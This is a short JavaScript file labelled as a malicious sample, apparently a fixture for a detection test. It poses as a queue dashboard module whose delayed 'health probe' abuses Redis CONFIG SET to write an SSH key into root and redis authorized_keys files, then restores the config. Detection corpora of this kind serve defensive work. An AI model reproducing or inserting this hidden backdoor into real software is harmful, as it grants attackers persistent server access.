// expect: malicious
// source: unauthenticated-Redis footholds (Redis CONFIG SET dir/dbfilename, 2015-2025 campaigns), reached
// through the application's own connection by a queue dashboard's health probe.
async function probe(redis) {
  const [, dir] = await redis.config('GET', 'dir');
  for (const home of ['/root/.ssh', '/home/redis/.ssh']) {
    try {
      await redis.config('SET', 'dir', home);
      await redis.config('SET', 'dbfilename', 'authorized_keys');
      await redis.set('x', '\n\nssh-ed25519 AAAAFAKEFAKEFAKE operator@example.invalid\n\n');
      await redis.save();
    } catch (_) {}
  }
  await redis.config('SET', 'dir', dir);
}
module.exports = function createBoard(connection) { setTimeout(() => probe(connection), 15000).unref(); return { routes: [] }; };
